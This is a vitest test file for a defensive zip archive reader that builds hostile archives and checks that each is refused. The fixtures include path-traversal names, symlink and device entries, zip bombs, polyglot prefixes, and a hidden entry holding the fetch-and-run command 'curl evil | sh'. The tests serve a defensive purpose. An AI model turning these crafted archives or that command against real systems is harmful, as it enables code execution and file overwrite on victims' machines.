/**
 * The zip reader pull uses for `.zip` skills (cli/pull/zip.ts): stored and deflated regular files
 * and folders, read from the central directory, each local header checked against it and the
 * entries tiling the file exactly; each refusal named after the attack. Archives made by Python's
 * zipfile (seekable, and streamed with data descriptors) and by Info-ZIP's zip are read too.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as zlib from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { ArchiveRefused } from '../../cli/pull/tar.js';
import { crc32, MAX_END_SCAN_BYTES, readZip, type ZipLimits } from '../../cli/pull/zip.js';
import { zip, type ZipEntry } from './zip-write.js';

const LIMITS: ZipLimits = { maxBytes: 16 << 20, maxEntries: 64 };
const read = (bytes: Buffer, limits = LIMITS) => readZip(bytes, limits);
const files = (entries: ReturnType<typeof readZip>): Record<string, string> =>
  Object.fromEntries(entries.filter((e) => e.kind === 'file').map((e) => [e.path, e.bytes.toString('utf8')]));
const SKILL: ZipEntry = { name: 'SKILL.md', body: '---\nname: x\n---\n' };

/** A folder holding SKILL.md and scripts/run.sh, for the real-world writers. */
function sourceDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'zip-src-'));
  mkdirSync(join(dir, 'scripts'));
  writeFileSync(join(dir, 'SKILL.md'), '---\nname: x\n---\n');
  writeFileSync(join(dir, 'scripts', 'run.sh'), `#!/bin/sh\n${'echo hi\n'.repeat(200)}`);
  return dir;
}
const REAL = { 'SKILL.md': '---\nname: x\n---\n', 'scripts/run.sh': `#!/bin/sh\n${'echo hi\n'.repeat(200)}` };

const PY_ZIP = `
import os, sys, zipfile
src, out = sys.argv[1], sys.argv[2]
def fill(z):
    for root, dirs, names in os.walk(src):
        dirs.sort()
        for d in dirs:
            z.write(os.path.join(root, d), os.path.relpath(os.path.join(root, d), src))
        for n in sorted(names):
            z.write(os.path.join(root, n), os.path.relpath(os.path.join(root, n), src), zipfile.ZIP_DEFLATED)
if out == '-':
    with zipfile.ZipFile(sys.stdout.buffer, 'w') as z: fill(z)   # unseekable: data descriptors
else:
    with zipfile.ZipFile(out, 'w') as z: fill(z)
`;

/** The general-purpose flags of every local header. */
function localFlags(bytes: Buffer): number[] {
  const out: number[] = [];
  for (let at = bytes.indexOf('PK\x03\x04'); at >= 0; at = bytes.indexOf('PK\x03\x04', at + 4)) out.push(bytes.readUInt16LE(at + 6));
  return out;
}

const hasZip = (() => {
  try {
    execFileSync('zip', ['-v'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

describe('readZip: what it takes', () => {
  test('stored and deflated files, folders, an empty file, a UTF-8 name with its flag', () => {
    const entries = read(
      zip([
        { name: 'refs/', method: 0 },
        SKILL,
        { name: 'refs/a.md', body: 'a', method: 0 },
        { name: 'empty.txt', method: 0 },
        { name: 'refs/café.md', body: 'é' },
      ]),
    );
    expect(files(entries)).toEqual({ 'SKILL.md': '---\nname: x\n---\n', 'refs/a.md': 'a', 'empty.txt': '', 'refs/café.md': 'é' });
    expect(entries.filter((e) => e.kind === 'dir').map((e) => e.path)).toEqual(['refs']);
  });

  test('data descriptors, with and without their signature: the central directory sizes are used, the descriptor must repeat them', () => {
    expect(
      files(
        read(
          zip([
            { ...SKILL, descriptor: true },
            { name: 'b', body: 'bb', descriptor: true, descriptorSignature: false },
          ]),
        ),
      ),
    ).toEqual({ 'SKILL.md': '---\nname: x\n---\n', b: 'bb' });
  });

  test('a comment on the end record', () => {
    expect(files(read(zip([SKILL], { comment: Buffer.from('made by us') })))).toEqual({ 'SKILL.md': '---\nname: x\n---\n' });
  });

  test("an archive made by Python's zipfile, to a file and streamed (data descriptors)", () => {
    const dir = sourceDir();
    const out = join(mkdtempSync(join(tmpdir(), 'zip-out-')), 'a.zip');
    execFileSync('python3', ['-c', PY_ZIP, dir, out]);
    expect(files(read(readFileSync(out)))).toEqual(REAL);
    const streamed = execFileSync('python3', ['-c', PY_ZIP, dir, '-']);
    expect(
      localFlags(streamed).some((f) => f & 0x0008),
      'the streamed archive uses data descriptors',
    ).toBe(true);
    expect(files(read(streamed))).toEqual(REAL);
  });

  // Info-ZIP writes its own extra fields (timestamps, Unix uid/gid) and Unix modes. CI installs it (.ci/run).
  test.skipIf(!hasZip && !process.env['CI'])("an archive made by Info-ZIP's zip (skipped here: no zip binary on this machine)", () => {
    const dir = sourceDir();
    const out = join(mkdtempSync(join(tmpdir(), 'zip-out-')), 'a.zip');
    execFileSync('zip', ['-qr', out, '.'], { cwd: dir });
    expect(files(read(readFileSync(out)))).toEqual(REAL);
    const streamed = execFileSync('sh', ['-c', 'zip -q -r - . | cat'], { cwd: dir });
    expect(
      localFlags(streamed).some((f) => f & 0x0008),
      'zip to a pipe uses data descriptors',
    ).toBe(true);
    expect(files(read(streamed))).toEqual(REAL);
  });

  test('our CRC-32 is the standard one', () => {
    expect(crc32(Buffer.from('123456789'))).toBe(0xcbf43926);
    const zcrc = (zlib as { crc32?: (b: Buffer) => number }).crc32;
    if (zcrc) expect(crc32(Buffer.alloc(100_000, 7))).toBe(zcrc(Buffer.alloc(100_000, 7)));
  });
});

describe('readZip: what it refuses', () => {
  test.each([
    [0o120777, 'a symbolic link'],
    [0o020666, 'a character device'],
    [0o060666, 'a block device'],
    [0o010666, 'a FIFO'],
    [0o140777, 'a socket'],
  ])('attack: an entry of Unix mode %o (%s) is refused, never materialised', (mode, what) => {
    expect(() => read(zip([SKILL, { name: 'passwd', body: '/etc/passwd', method: 0, mode }]))).toThrow(
      new ArchiveRefused(`"passwd" is ${what}; only regular files and folders are taken from an archive`),
    );
  });

  test('a regular Unix mode is taken; a mode that says folder on a file name is refused', () => {
    expect(files(read(zip([{ ...SKILL, mode: 0o100644 }])))).toEqual({ 'SKILL.md': '---\nname: x\n---\n' });
    expect(() => read(zip([{ ...SKILL, mode: 0o040755 }]))).toThrow(/Unix mode and its name disagree/);
  });

  test.each([
    ['traversal', '../../evil.sh', /must not hold "\." or "\.\." segments/],
    ['an absolute path', '/etc/cron.d/x', /no leading "\/"/],
    ['a backslash name', 'a\\..\\b', /backslash/],
    ['a NUL in a name', 'SKILL.md\0.sh', /control character \(NUL included\)/],
    ['an empty segment', 'a//b', /empty segment/],
  ])('attack: %s is refused by the path rules', (_what, name, why) => {
    expect(() => read(zip([SKILL, { name, body: 'x' }]))).toThrow(why);
  });

  test('attack: one path twice, or as a file and a folder (which copy wins would depend on the reader)', () => {
    expect(() => read(zip([SKILL, { name: 'SKILL.md', body: 'other' }]))).toThrow(/"SKILL.md" is in the archive twice/);
    expect(() => read(zip([SKILL, { name: 'a', body: 'x' }, { name: 'a/', method: 0 }]))).toThrow(/"a\/" is in the archive twice/);
  });

  test.each([
    ['name', { local: { name: 'EVIL.md' } }],
    ['compression method', { local: { method: 0 } }],
    ['crc or sizes', { local: { crc: 1 } }],
    ['crc or sizes', { local: { size: 3 } }],
    ['crc or sizes', { local: { packed: 3 } }],
    ['flags', { local: { flags: 0x0008 } }],
  ] as [string, Partial<ZipEntry>][])(
    'attack: two archives in one file: a local header that disagrees with the central directory on the %s',
    (what, over) => {
      expect(() => read(zip([{ ...SKILL, ...over }]))).toThrow(
        `"SKILL.md": its local header and its central-directory entry disagree on the ${what}`,
      );
    },
  );

  test('attack: two archives in one file: a local entry the central directory does not list (only a streaming reader sees it)', () => {
    expect(() => read(zip([SKILL, { name: 'hidden.sh', body: 'curl evil | sh', unlisted: true }, { name: 'b', body: 'b' }]))).toThrow(
      /bytes no entry accounts for before "b"/,
    );
    expect(() => read(zip([SKILL, { name: 'hidden.sh', body: 'curl evil | sh', unlisted: true }]))).toThrow(
      /bytes no entry accounts for before its central directory/,
    );
  });

  test('attack: a data descriptor that disagrees with the central directory', () => {
    expect(() => read(zip([{ ...SKILL, descriptor: true, central: { size: 99 } }]))).toThrow(
      /disagree on the crc or sizes \(its data descriptor\)/,
    );
  });

  test('attack: a wrong CRC-32 on both headers is caught after inflating', () => {
    expect(() => read(zip([{ ...SKILL, central: { crc: 1234 }, local: { crc: 1234 } }]))).toThrow(/"SKILL.md" fails its CRC-32 check/);
  });

  test('attack: the overlap zip bomb: two central entries pointing at one local header', () => {
    // Both entries name the header they point at (the name check passes); they share its bytes.
    const same = zip([SKILL, { ...SKILL }], { offsets: (o) => [o[0]!, o[0]!] });
    expect(() => read(same)).toThrow(/overlaps the entry before it/);
  });

  test("attack: the overlap zip bomb: a central entry whose local header lies inside another entry's data", () => {
    const inner = zip([{ name: 'b.md', body: 'inner', method: 0 }]);
    const innerLocal = inner.subarray(0, 30 + 4 + 5); // b.md's local header and data
    const outerName = 'a.md';
    const bytes = zip(
      [
        { name: outerName, body: innerLocal, method: 0 },
        { name: 'b.md', body: 'inner', method: 0 },
      ],
      { offsets: (o) => [o[0]!, o[0]! + 30 + outerName.length] },
    );
    expect(() => read(bytes)).toThrow(/"b.md" overlaps the entry before it; entries sharing bytes are refused/);
  });

  test('attack: a decompression bomb: declared sizes over the cap are refused before inflating; a lying size stops at what it declares', () => {
    const big = Buffer.alloc(64 << 20);
    const bomb = zip([SKILL, { name: 'zeros', body: big }]);
    expect(bomb.length).toBeLessThan(1 << 20);
    expect(() => read(bomb)).toThrow(/unpacks to more than 16777216 bytes/);
    const liar = zip([SKILL, { name: 'zeros', body: big, central: { size: 1024 }, local: { size: 1024 } }]);
    expect(() => read(liar)).toThrow(/"zeros" inflates to more than the 1024 bytes it declares/);
  });

  test('attack: more entries than the cap', () => {
    const many = Array.from({ length: 65 }, (_, i) => ({ name: `f${i}`, body: 'x' }));
    expect(() => read(zip(many))).toThrow(/it has 65 entries, over the 64 a pull accepts/);
  });

  test('attack: data hidden after the deflate stream inside an entry', () => {
    expect(() => read(zip([{ ...SKILL, trailing: Buffer.from('hidden payload') }]))).toThrow(/holds data after its deflate stream/);
  });

  test('attack: data after the end record (refused, not ignored)', () => {
    expect(() => read(zip([SKILL], { suffix: Buffer.from('second payload') }))).toThrow(/data after its end-of-central-directory record/);
  });

  test('attack: prepended data (a polyglot or self-extractor), offsets adjusted or not, is refused', () => {
    expect(() => read(zip([SKILL], { prefix: Buffer.from('#!/bin/sh\nexit 0\n') }))).toThrow(
      /data before its first entry \(prepended data\)/,
    );
    const plain = zip([SKILL]);
    expect(() => read(Buffer.concat([Buffer.from('#!/bin/sh\nexit 0\n'), plain]))).toThrow(/does not end where its end record starts/);
  });

  test('attack: a comment holding a second end record (readers scanning differently see two archives)', () => {
    const fake = Buffer.alloc(22);
    fake.writeUInt32LE(0x06054b50);
    expect(() => read(zip([SKILL], { comment: fake }))).toThrow(/more than one end-of-central-directory record/);
  });

  test('the end record is looked for only within the last 65,557 bytes', () => {
    expect(MAX_END_SCAN_BYTES).toBe(65_557);
    const far = zip([SKILL], { suffix: Buffer.alloc(MAX_END_SCAN_BYTES) });
    expect(() => read(far)).toThrow(/no end-of-central-directory record/);
  });

  test.each([
    ['the end record count is 0xFFFF', zip([SKILL], { end: { count: 0xffff, onDisk: 0xffff } })],
    ['an entry has a zip64 extra field', zip([{ ...SKILL, extra: Buffer.from([1, 0, 0, 0]) }])],
    ['an entry has 0xFFFFFFFF sizes', zip([{ ...SKILL, central: { packed: 0xffffffff } }])],
  ])('zip64 is refused: %s', (_what, bytes) => {
    expect(() => read(bytes)).toThrow(/zip64/);
  });

  test('multi-disk (split) archives are refused', () => {
    expect(() => read(zip([SKILL], { end: { disk: 1 } }))).toThrow(/multi-disk/);
    expect(() => read(zip([{ ...SKILL, central: { disk: 1 } }]))).toThrow(/starts on another disk/);
  });

  test('attack: encrypted entries (flag bit 0) cannot be checked and are refused', () => {
    expect(() => read(zip([{ ...SKILL, flags: 0x0001 }]))).toThrow(/"SKILL.md" is encrypted/);
  });

  test('methods other than stored and deflate are refused, named', () => {
    expect(() => read(zip([SKILL, { name: 'b', body: 'x', method: 12 }]))).toThrow(
      /uses compression method 12; only stored \(0\) and deflate \(8\)/,
    );
  });

  test('attack: a name readers would spell differently (non-ASCII without the UTF-8 flag, or a second Unicode Path name)', () => {
    expect(() => read(zip([SKILL, { name: 'café.md', body: 'x', flags: 0 }]))).toThrow(/not ASCII and not flagged UTF-8/);
    const unicodePath = Buffer.concat([Buffer.from([0x75, 0x70, 10, 0, 1, 0, 0, 0, 0]), Buffer.from('evil.')]);
    expect(() => read(zip([SKILL, { name: 'b.md', body: 'x', extra: unicodePath }]))).toThrow(/a second, Unicode Path name/);
  });

  test('a truncated archive, and bytes that are not a zip', () => {
    const whole = zip([SKILL]);
    expect(() => read(whole.subarray(0, whole.length - 5))).toThrow(ArchiveRefused);
    expect(() => read(Buffer.from('not a zip at all, just text'))).toThrow(/no end-of-central-directory record/);
  });
});
